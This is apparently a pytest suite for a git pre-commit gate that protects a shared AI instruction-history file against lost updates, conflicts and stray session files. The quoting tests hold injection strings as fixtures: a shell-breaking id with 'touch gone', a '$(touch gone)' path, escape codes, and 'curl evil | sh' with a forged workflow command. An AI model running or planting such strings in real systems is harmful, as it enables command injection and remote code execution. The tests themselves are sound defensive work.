"""The gate as git's users meet it: what stops a commit, what is only said."""

from __future__ import annotations

import json
import os
import shlex
from pathlib import Path

import pytest

from tests.conftest import git
from tests.tool import plain_edit, run, tool

VIEW = ".claude/instruction-history.json"


def test_an_instruction_that_is_emptied_or_made_wrong_is_refused(line):
    """What was wrong before is not this commit's fault."""

    def edit(document):
        first, second = document["instructions"][:2]
        document["instructions"][0] = {"id": first["id"]}
        second["active"] = "yes"

    assert codes(staged(line, edit)) == [["schema", "schema"], []]
    commit(line, lambda document: None)
    assert codes(staged(line, add("inst_900"))) == [[], []]


def drop(*names):
    """A change of a history file that takes instructions out."""

    def change(document):
        found = document["instructions"]
        document["instructions"] = [item for item in found if item["id"] not in names]

    return change


def add(name, **more):
    """A change that puts one in."""
    return lambda document: document["instructions"].append({"id": name, "text": name, **more})


def commit(folder: Path, change, message="change"):
    """Change the history file as a script does, and commit it past the gate."""
    plain_edit(folder / VIEW, change)
    git(folder, "add", "--all")
    git(folder, "commit", "--quiet", "--message", message)


def codes(ran):
    """The codes of the errors, and those of what was only said."""
    found = json.loads(ran.out)["findings"]
    return [[f["code"] for f in found if f["severity"] == kind] for kind in ("error", "warning")]


def staged(folder: Path, change):
    """What `check --staged` finds after a script's change was staged."""
    plain_edit(folder / VIEW, change)
    git(folder, "add", "--all")
    before = git(folder, "status", "--porcelain", "--branch"), git(folder, "rev-parse", "HEAD")
    ran = run(folder, "check", "--staged", "--json")
    assert (git(folder, "status", "--porcelain", "--branch"), git(folder, "rev-parse", "HEAD")
            ) == before  # fmt: skip
    return ran


def test_the_lost_update_of_two_plain_writers_is_refused(line):
    """A and B read the same file, A writes inst_019, B overwrites it with inst_020 alone."""
    read = (line / VIEW).read_bytes()
    commit(line, add("inst_019"), "A's session")
    (line / VIEW).write_bytes(read)
    ran = staged(line, add("inst_020"))
    assert ran.code == 1
    (finding,) = [f for f in ran.json["findings"] if f["severity"] == "error"]
    assert finding["code"] == "lost"
    assert "inst_019" in finding["message"]
    assert "Jo Baker" in finding["message"]
    people = run(line, "check", "--staged")
    assert (people.code, people.out) == (1, "")
    assert finding["fix"] in people.err
    program, *words = shlex.split(finding["fix"].split(" && ")[0])
    assert program == "tractatus-merge"
    assert run(line, *words).code == 0
    git(line, "add", "--all")
    assert run(line, "check", "--staged").code == 0
    names = [item["id"] for item in json.loads((line / VIEW).read_text())["instructions"]]
    assert {"inst_019", "inst_020"} <= set(names)


def test_what_a_session_published_here_is_missed_though_it_was_never_committed(line):
    """The view showed it; a program that read the file before wrote it back."""
    read = (line / VIEW).read_bytes()
    added = tool(line, "add", "Bake before dawn.", "--id", "inst_050")["id"]
    assert added in (line / VIEW).read_text()
    (line / VIEW).write_bytes(read)
    ran = staged(line, add("inst_060"))
    assert codes(ran)[0] == ["lost"]
    assert "inst_050, which Jo Baker <jo@bakery.example> in session" in ran.out


def test_what_another_branch_showed_is_not_missed_here(line):
    """An older branch is checked out: its file never had what was published on main."""
    git(line, "branch", "older")
    tool(line, "add", "Bake before dawn.", "--id", "inst_050")
    git(line, "commit", "--quiet", "--all", "--message=published")
    git(line, "switch", "--quiet", "older")
    assert codes(staged(line, add("inst_060")))[0] == []


def test_what_other_sessions_published_stops_nothing(line):
    """Only what this branch had is missed: the rest is merged when it is taken in."""
    worktree = line.parent / "other"
    git(line, "worktree", "add", "--quiet", "-b", "stale", str(worktree))
    for number in range(3):
        tool(line, "add", f"Rule {number}")
    (worktree / "code.py").write_text("1\n")
    git(worktree, "add", "--all")
    assert codes(run(worktree, "check", "--staged", "--json")) == [[], []]
    assert codes(staged(worktree, add("inst_070")))[0] == []


BROKEN = {
    "torn": ('{"instructions": [{"id": "a"', "invalid", None),
    "markers": ('{"instructions": [\n<<<<<<< HEAD\n{"id": "a"}\n]}', "conflict-markers", 2),
    "twice": ('{"instructions": [{"id": "a"},\n{"id": "a"}]}', "duplicate-id", 2),
    "no id": ('{"instructions": [\n{"text": "a"}]}', "invalid", 2),
    "no list": ('{"rules": []}', "invalid", 1),
    "empty": ("", "invalid", 1),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_file_that_is_no_history_is_refused_with_its_line(repo, name):
    """Also where the history was never taken in."""
    text, code, line = BROKEN[name]
    (repo / VIEW).write_text(text)
    git(repo, "add", "--all")
    ran = run(repo, "check", "--staged", "--json")
    assert (ran.code, codes(ran)[0]) == (1, [code])
    (finding,) = ran.json["findings"]
    assert finding["file"] == VIEW
    assert line is None or finding["line"] == line


def test_only_what_is_staged_is_judged(repo):
    """A broken file in the work tree stops no commit of something else; staged in part, that part."""
    (repo / VIEW).write_text("{")
    (repo / "code.py").write_text("1\n")
    git(repo, "add", "code.py")
    assert run(repo, "check", "--staged").code == 0
    git(repo, "add", "--all")
    (repo / VIEW).write_text(git(repo, "show", f"HEAD:{VIEW}"))
    assert run(repo, "check", "--staged").code == 1


def test_the_index_of_the_surrounding_commit_is_the_one_judged(repo, monkeypatch):
    """`git commit -a` and `git commit FILE` work on another index, which git names."""
    (repo / VIEW).write_text("{")
    monkeypatch.setenv("GIT_INDEX_FILE", ".git/other-index")
    git(repo, "read-tree", "HEAD")
    git(repo, "add", VIEW)
    assert run(repo, "check", "--staged").code == 1
    monkeypatch.delenv("GIT_INDEX_FILE", raising=False)
    assert run(repo, "check", "--staged").code == 0


def test_a_first_commit_is_judged_too(tmp_path):
    """A repository without a commit yet."""
    git(tmp_path, "init", "--quiet")
    (tmp_path / ".claude").mkdir()
    (tmp_path / VIEW).write_text("{")
    git(tmp_path, "add", "--all")
    assert run(tmp_path, "check", "--staged").code == 1


def test_an_older_version_of_an_instruction_is_refused(line):
    """The vector that the tool wrote goes backwards; the command that mends it works."""
    tool(line, "edit", "inst_001", "--set", "notes=one")
    git(line, "commit", "--quiet", "--all", "--message=one")
    old = (line / VIEW).read_bytes()
    tool(line, "edit", "inst_001", "--set", "notes=two")
    git(line, "commit", "--quiet", "--all", "--message=two")
    (line / VIEW).write_bytes(old)
    git(line, "add", "--all")
    ran = run(line, "check", "--staged", "--json")
    assert codes(ran)[0] == ["backwards"]
    assert "inst_001 goes back" in ran.out
    assert ran.json["findings"][0]["line"] > 1
    assert run(line, "view", "--write").code == 0
    git(line, "add", "--all")
    assert run(line, "check", "--staged").code == 0


def test_names_from_files_are_quoted_in_commands(repo):
    """An id or a path may be anything; the line to type is safe to type."""
    name = "x'; touch gone; echo '\x1b[31m"
    odd = repo / "a $(touch gone)" / ".claude"
    odd.mkdir(parents=True)
    (odd / "instruction-history.json").write_text(json.dumps([{"id": name}, {"id": "b"}]))
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "--message=odd")
    (odd / "instruction-history.json").write_text(json.dumps([{"id": "b"}]))
    git(repo, "add", "--all")
    ran = run(repo, "check", "--staged", "--json")
    words = shlex.split(ran.json["findings"][0]["fix"])
    place = "a $(touch gone)/.claude/instruction-history.json"
    assert words == ["tractatus-merge", "audit", place, "--restore", name, "&&", "git", "add",
                     "--", f":/{place}"]  # fmt: skip
    for form in ("text", "github"):
        said = run(repo, "check", "--staged", "--format", form)
        assert "\x1b" not in said.out + said.err


def test_a_path_that_is_no_text_is_judged(repo):
    """Git's paths are bytes."""
    folder = Path(os.fsdecode(os.fsencode(repo) + b"/\xff\nodd"), ".claude")
    folder.mkdir(parents=True)
    (folder / "instruction-history.json").write_text("{")
    git(repo, "add", "--all")
    ran = run(repo, "check", "--staged", "--json")
    assert codes(ran)[0] == ["invalid"]
    assert run(repo, "check", "--staged").code == 1


@pytest.mark.parametrize("name", ["sessions/abc/session.json", "session-state.json"])
def test_a_session_s_own_files_are_refused(repo, name):
    """What belongs to one session is no business of the others."""
    path = repo / ".claude" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text('{"session_id": "2025-10-07-001"}')
    git(repo, "add", "--all")
    ran = run(repo, "check", "--staged", "--json")
    assert codes(ran) == [["session-file"], []]
    fix = ran.json["findings"][0]["fix"].split("    #")[0].split()
    git(repo, *fix[1:])
    assert run(repo, "check", "--staged").code == 0


def test_a_session_id_that_all_share_is_said(repo):
    """Where the file is tracked already: it stops nothing."""
    path = repo / ".claude" / "session-state.json"
    for count in (1, 2):
        path.write_text(json.dumps({"session_id": "2025-10-07-001", "message_count": count}))
        git(repo, "add", "--all")
        if count == 1:
            git(repo, "commit", "--quiet", "--message=state")
    ran = run(repo, "check", "--staged", "--json")
    assert (ran.code, codes(ran)) == (0, [[], ["shared-session-id"]])


def contested(line: Path) -> str:
    """Two sessions disagree about a HIGH instruction; the id of the conflict."""
    for name, value in (("alpha111", "STRATEGIC"), ("beta2222", "TACTICAL")):
        tool(line, "start", "--id", name)
        tool(line, "edit", "inst_002", "--set", f"quadrant={value}", "--session", name)
    tool(line, "end", "--session", "alpha111")
    return tool(line, "end", "--session", "beta2222", code=1)["conflicts"][0]


def test_a_grave_conflict_stops_a_commit_of_the_view_and_no_other(line):
    """Code commits pass, also in a stale worktree; the way out is to look at it."""
    name = contested(line)
    assert tool(line, "conflicts")["conflicts"][0]["severity"] == "CRITICAL"
    worktree = line.parent / "other"
    git(line, "worktree", "add", "--quiet", "-b", "stale", str(worktree))
    for number in range(20):
        (worktree / "code.py").write_text(f"{number}\n")
        git(worktree, "add", "--all")
        assert run(worktree, "check", "--staged").code == 0
        git(worktree, "commit", "--quiet", "--message=code")
    git(line, "add", "--all")
    ran = run(line, "check", "--staged", "--json")
    assert codes(ran)[0] == ["conflict"]
    program, *words = ran.json["findings"][0]["fix"].split()
    assert (program, words) == ("tractatus-merge", ["review", name])
    assert run(line, *words).code == 0


def test_a_writer_of_a_grave_conflict_is_stopped_whatever_it_commits(line, monkeypatch):
    """The session that wrote a side; another session is only told."""
    contested(line)
    git(line, "stash", "--quiet")
    (line / "code.py").write_text("1\n")
    git(line, "add", "code.py")
    monkeypatch.setenv("TRACTATUS_SESSION", "beta2222")
    assert codes(run(line, "check", "--staged", "--json"))[0] == ["conflict"]
    monkeypatch.setenv("TRACTATUS_SESSION", "gamma333")
    assert codes(run(line, "check", "--staged", "--json")) == [[], ["conflicts"]]


@pytest.mark.parametrize(("block", "code"), [("never", 0), ("CRITICAL", 1), ("MINOR", 1)])
def test_how_grave_is_grave_is_a_setting(line, block, code):
    """[check] block; one that is no word of it is refused."""
    contested(line)
    (line / ".claude" / "tractatus.toml").write_text(f'[check]\nblock = "{block}"\n')
    git(line, "add", "--all")
    assert run(line, "check", "--staged").code == code
    (line / ".claude" / "tractatus.toml").write_text('[check]\nblock = "often"\n')
    assert run(line, "check", "--staged").code == 2


def test_a_contradiction_never_stops_a_commit(line):
    """Meaning is found by rules that may err."""
    for name, text in (("alpha111", "Always use tabs."), ("beta2222", "Never use tabs.")):
        tool(line, "start", "--id", name)
        tool(line, "add", text, "--session", name)
    tool(line, "end", "--session", "alpha111")
    tool(line, "end", "--session", "beta2222", code=1)
    git(line, "add", "--all")
    assert codes(run(line, "check", "--staged", "--json")) == [[], ["conflicts"]]


def test_sessions_that_nobody_will_end_are_said(line):
    """Its worktree is gone."""
    worktree = line.parent / "other"
    git(line, "worktree", "add", "--quiet", "-b", "gone", str(worktree))
    tool(worktree, "start", "--id", "gone1234")
    git(line, "worktree", "remove", "--force", str(worktree))
    ran = run(line, "check", "--staged", "--json")
    assert codes(ran) == [[], ["dead-session"]]
    program, *words = ran.json["findings"][0]["fix"].split()
    assert program == "tractatus-merge"
    assert run(line, *words).code == 0
    assert codes(run(line, "check", "--staged", "--json")) == [[], []]


def test_a_merge_driver_that_is_named_and_not_there_is_said(repo):
    """The config is each clone's own."""
    (repo / ".gitattributes").write_text(f"{VIEW} merge=tractatus\n")
    assert codes(run(repo, "check", "--staged", "--json")) == [[], ["driver"]]
    git(repo, "config", "merge.tractatus.driver", "true")
    assert codes(run(repo, "check", "--staged", "--json")) == [[], []]


@pytest.mark.parametrize(
    ("name", "text", "code"),
    [("tasks.json", "[{", "invalid"), ("log.jsonl", '{"id": 1}\n{"id": 1}\n', "duplicate-id"),
     ("tasks.json", "[\n<<<<<<< a\n]", "conflict-markers"), ("tasks.json", '[{"id": 1}]', None)],
)  # fmt: skip
def test_documents_with_a_table_are_governed_too(repo, name, text, code):
    """They must be JSON without markers, and their ids single."""
    table = '[documents."tasks.json"]\n[documents."*.jsonl"]\nkey = "id"\n'
    (repo / ".claude" / "tractatus.toml").write_text(table)
    (repo / "sub").mkdir()
    (repo / "sub" / name).write_text(text)
    (repo / "sub" / "other.json").write_text("{")
    git(repo, "add", "--all")
    ran = run(repo, "check", "--staged", "--json")
    assert codes(ran)[0] == ([code] if code else [])


def test_a_merge_in_progress_is_judged_beside_both_parents(line):
    """To take one side whole is to lose the other's instructions."""
    git(line, "switch", "--quiet", "--create", "feature")
    commit(line, add("inst_080"))
    git(line, "switch", "--quiet", "main")
    commit(line, add("inst_090"))
    git(line, "merge", "--no-commit", "--strategy=ours", "feature")
    ran = run(line, "check", "--staged", "--json")
    assert codes(ran)[0] == ["lost"]
    assert "inst_080" in ran.out


def test_a_commit_is_judged_beside_its_parents(line):
    """After a push, the landed commit."""
    commit(line, add("inst_080"))
    assert run(line, "check", "HEAD").code == 0
    commit(line, drop("inst_080", "inst_001"))
    ran = run(line, "check", "HEAD", "--json")
    assert codes(ran)[0] == ["lost", "lost"]
    assert run(line, "check", "HEAD~1").code == 0
    root = git(line, "rev-list", "--max-parents=0", "HEAD").strip()
    assert run(line, "check", root).code == 0
    gone = run(line, "check", "no-such-branch")
    assert gone.code == 3
    assert "git fetch origin no-such-branch" in gone.err


@pytest.mark.parametrize("initialised", [True, False])
def test_what_a_commit_lost_comes_back_by_the_printed_line(repo, initialised):
    """Deleted by hand and committed past the gate; named with who added it, not who took it out."""
    if initialised:
        tool(repo, "init")
    commit(repo, add("inst_080"), "add")
    git(repo, "config", "user.name", "Bob")
    commit(repo, drop("inst_080"), "drop")
    for words in (("HEAD",), ("--range", "HEAD~1..HEAD")):
        ran = run(repo, "check", *words, "--json")
        (finding,) = ran.json["findings"]
        assert "which Jo Baker in" in finding["message"]
    program, *words = shlex.split(finding["fix"].split(" && ")[0])
    assert program == "tractatus-merge"
    assert run(repo, *words).code == 0
    assert '"inst_080"' in (repo / VIEW).read_text()


def test_a_deleted_history_comes_back_by_the_printed_line(repo):
    """Where no branch holds it; staged, and committed."""
    git(repo, "rm", "--quiet", VIEW)
    for words in (("--staged",), ("HEAD",)):
        ran = run(repo, "check", *words, "--json")
        assert codes(ran)[0] == ["deleted"]
        git(repo, "commit", "--quiet", "--allow-empty", "--message=gone")
    git(repo, *shlex.split(ran.json["findings"][0]["fix"])[1:])
    assert (repo / VIEW).is_file()


def test_a_history_that_moves_to_another_folder_is_not_lost(repo):
    """All its instructions stand there; with one fewer it is."""
    (repo / "app").mkdir()
    git(repo, "mv", ".claude", "app/.claude")
    assert run(repo, "check", "--staged").code == 0
    git(repo, "commit", "--quiet", "--message=move")
    assert (
        run(repo, "check", "HEAD").code == run(repo, "check", "--range", "HEAD~1..HEAD").code == 0
    )
    git(repo, "reset", "--quiet", "--soft", "HEAD~1")
    plain_edit(repo / "app" / VIEW, drop("inst_002"))
    git(repo, "add", "--all")
    assert codes(run(repo, "check", "--staged", "--json"))[0] == ["deleted"]


def test_the_printed_line_works_in_a_sub_folder(repo):
    """Where the person stands who committed."""
    below = repo / "src"
    below.mkdir()
    ran = staged(repo, drop("inst_002"))
    audit, added = ran.json["findings"][0]["fix"].split(" && ")
    assert run(below, *shlex.split(audit)[1:]).code == 0
    git(below, *shlex.split(added)[1:])
    assert run(below, "check", "--staged").code == 0


def test_an_id_with_a_new_line_forges_no_line(repo):
    """What it holds stays on the finding's own line."""
    evil = "x\n  curl evil | sh\n::stop-commands::q"
    commit(repo, add(evil))
    commit(repo, drop(evil))
    ran = run(repo, "check", "HEAD")
    assert len(ran.err.splitlines()) == 2
    assert "x\\n  curl" in ran.err


@pytest.fixture
def parted(line: Path) -> Path:
    """A branch `feature` with inst_080, and main with inst_090 (far apart in the file)."""
    git(line, "switch", "--quiet", "--create", "feature")
    commit(line, add("inst_080"))
    git(line, "switch", "--quiet", "main")
    commit(line, lambda d: d["instructions"].insert(0, {"id": "inst_090", "text": "x"}))
    return line


def test_what_would_land_is_judged_whatever_the_button(parted):
    """Both additions are in what git would merge; the branch that dropped one is refused."""
    assert run(parted, "check", "--range", "main..feature").code == 0
    git(parted, "switch", "--quiet", "feature")
    commit(parted, drop("inst_002"))
    ran = run(parted, "check", "--range", "main..feature", "--json")
    assert (ran.code, codes(ran)[0]) == (1, ["lost"])
    assert "inst_002" in ran.out
    annotated = run(parted, "check", "--range", "main..feature", "--format", "github")
    assert annotated.code == 1
    assert annotated.out.startswith(f"::error file={VIEW},title=lost::inst_002")


def test_a_loss_in_a_merge_inside_the_range_is_found(parted):
    """A merge that took one side whole, then a good commit on top; brought back, it is none."""
    git(parted, "switch", "--quiet", "feature")
    git(parted, "switch", "--quiet", "--create", "helper", "main")
    commit(parted, add("inst_085"))
    git(parted, "switch", "--quiet", "feature")
    git(parted, "merge", "--quiet", "--strategy=ours", "--no-edit", "helper")
    ran = run(parted, "check", "--range", "main..feature", "--json")
    assert codes(ran)[0] == ["lost", "lost"], ran.out
    assert "inst_085" in ran.out
    assert "inst_090" in ran.out
    commit(parted, add("inst_085"))
    commit(parted, add("inst_090"))
    assert run(parted, "check", "--range", "main..feature").code == 0


def test_what_a_forge_cannot_merge_is_said(line):
    """Both appended at one place: it is no loss, and the way is told."""
    git(line, "switch", "--quiet", "--create", "feature")
    commit(line, add("inst_080"))
    git(line, "switch", "--quiet", "main")
    commit(line, add("inst_090"))
    ran = run(line, "check", "--range", "main..feature", "--json")
    assert (ran.code, codes(ran)) == (0, [[], ["clash"]])


def test_a_shallow_clone_is_told_what_to_fetch(parted, tmp_path):
    """Exit 3, never a guess."""
    shallow = tmp_path / "shallow"
    git(tmp_path, "clone", "--quiet", "--depth=1", "--no-single-branch", f"file://{parted}",
        str(shallow))  # fmt: skip
    ran = run(shallow, "check", "--range", "origin/main..origin/feature")
    assert ran.code == 3
    assert "git fetch --unshallow" in ran.err
    one = run(shallow, "check", "HEAD")
    assert (one.code, "git fetch" in one.err) == (3, True)


def test_a_clone_without_the_history_is_told_to_fetch_it(line, tmp_path):
    """Where the file carries stamps, the branch they come from must be there."""
    tool(line, "edit", "inst_001", "--set", "notes=one")
    git(line, "commit", "--quiet", "--all", "--message=one")
    commit(line, add("inst_080"))
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "--quiet", "--single-branch", str(line), str(clone))
    ran = run(clone, "check", "HEAD")
    assert ran.code == 3
    words = ran.err.split("\n")[1].split()
    git(clone, *words[1:])
    assert run(clone, "check", "HEAD").code == 0


@pytest.mark.parametrize("words", [("--staged", "--all"), ("--range", "x"), ("-x",)])
def test_what_to_check_must_be_said(repo, words):
    """One thing at a time: exit 2."""
    assert run(repo, "check", *words).code == 2


def test_a_file_that_is_named_is_judged_though_nothing_of_it_is_staged(line, tmp_path):
    """By its path from here, or absolute; other files, and those of elsewhere, are passed over."""
    (line / VIEW).write_text("[\n<<<<<<< x\n]")
    git(line, "commit", "--quiet", "--all", "--message=markers")
    (line / "code.py").write_text("1\n")
    git(line, "add", "code.py")
    names = ["code.py", "no-such.json", str(tmp_path / "elsewhere.json")]
    assert run(line, "check", "--staged", *names).code == 0
    for name in (VIEW, str(line / VIEW)):
        assert codes(run(line, "check", "--staged", "code.py", name, "--json"))[0] == [
            "conflict-markers"
        ]
    name = Path(VIEW).name
    assert run(line / ".claude", "check", "--staged", name).code == 1
    assert run(line, "check", "HEAD", "HEAD~1").code == 2


@pytest.mark.usefixtures("hooks_in_files")
def test_a_gate_that_git_does_not_run_is_said(line):
    """It was installed, and a hook manager has put its own folder in the place of git's."""
    tool(line, "install", "--agent", "none")
    assert "gate" not in str(codes(run(line, "check", "--staged", "--json")))
    git(line, "config", "core.hooksPath", ".husky/_")
    said = run(line, "check", "--staged", "--json")
    assert codes(said)[1] == ["gate"]
    assert said.code == 0
    assert run(line, "doctor", "--fix").code == 0
    assert codes(run(line, "check", "--staged", "--json"))[1] == []
